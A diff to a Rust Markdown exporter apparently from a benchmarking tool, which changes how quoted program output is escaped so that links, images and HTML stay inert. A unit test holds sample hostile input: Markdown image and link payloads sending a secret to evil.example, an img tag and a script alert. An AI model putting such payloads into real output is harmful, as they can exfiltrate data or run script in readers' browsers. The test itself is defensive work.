@@ -9,8 +9,9 @@ pub struct Markdown;
 
 /// Text made inert for Markdown, on one line: every character that can
 /// start a link, an image (both need `[`), an autolink or inline HTML
-/// (`<`), or code is backslash-escaped (CommonMark's escapes of ASCII
-/// punctuation; emphasis is harmless and stays readable), and the
+/// (`<`) is backslash-escaped (CommonMark's escapes of ASCII punctuation;
+/// emphasis and code spans are harmless and stay readable: nothing in a
+/// code span is markup), a leading `>` too (a block quote), and the
 /// `://` and `www.` of a bare URL get a zero-width space, so GitHub's
 /// extended autolinks do not make it a link either. Notes quote programs'
 /// stderr: a contributed program could print `![x](https://host/?secret)`,
@@ -18,8 +19,14 @@ pub struct Markdown;
 fn escape(s: &str) -> String {
     let text = strip_ansi_escapes::strip_str(s).replace(['\n', '\r'], " ");
     let mut out = String::with_capacity(text.len());
-    for c in text.chars() {
-        if matches!(c, '\\' | '`' | '[' | ']' | '<' | '>' | '|') {
+    for (i, c) in text.char_indices() {
+        // `>` is markup only where a line starts (a block quote); the
+        // text is one line, so only before anything but spaces.
+        let quote = c == '>' && text[..i].trim().is_empty();
+        // Backticks stay: a code span's content is never markup (the
+        // escapes show literally there, and nothing becomes a link), and
+        // langbench's own facts use them for commands.
+        if matches!(c, '\\' | '[' | ']' | '<' | '|') || quote {
             out.push('\\');
         }
         out.push(c);
@@ -53,6 +60,12 @@ impl Exporter for Markdown {
         for (k, v) in &doc.meta {
             out.push_str(&format!("- {k}: {}\n", escape(v)));
         }
+        if !doc.details.is_empty() {
+            out.push_str(&format!("- Details ({}):\n", doc.details.len()));
+            for (k, v) in &doc.details {
+                out.push_str(&format!("  - {}: {}\n", escape(k), escape(v)));
+            }
+        }
         let tables: Vec<&Table> = doc.tables.iter().filter(|t| !t.data_only).collect();
         for t in &tables {
             out.push('\n');
@@ -63,7 +76,7 @@ impl Exporter for Markdown {
             if !t.notes.is_empty() {
                 out.push_str("\n\\* Notes:\n\n");
                 for n in &t.notes {
-                    out.push_str(&format!("- {}\n", escape(n)));
+                    out.push_str(&format!("- {}\n", escape(&n.to_string())));
                 }
             }
         }
@@ -94,14 +107,13 @@ mod tests {
     fn a_hostile_note_renders_as_plain_text() {
         let hostile = "error: ![x](https://evil.example/?k=secret) <img src=\"https://evil.example/i\"> \
                        [y](https://evil.example/l) <https://evil.example/a> [r][1]\n\n[1]: https://evil.example/r \
-                       `code` **bold** <script>alert(1)</script>";
+                       `code` **bold** <script>alert(1)</script> `[z](https://evil.example/c)` `unclosed [w](https://evil.example/w)";
         let md = format!("- {}\n", escape(hostile));
         for e in Parser::new(&md) {
             match e {
                 Event::Start(Tag::Link { .. } | Tag::Image { .. })
                 | Event::Html(_)
-                | Event::InlineHtml(_)
-                | Event::Code(_) => panic!("{e:?} in {md}"),
+                | Event::InlineHtml(_) => panic!("{e:?} in {md}"),
                 _ => {}
             }
         }
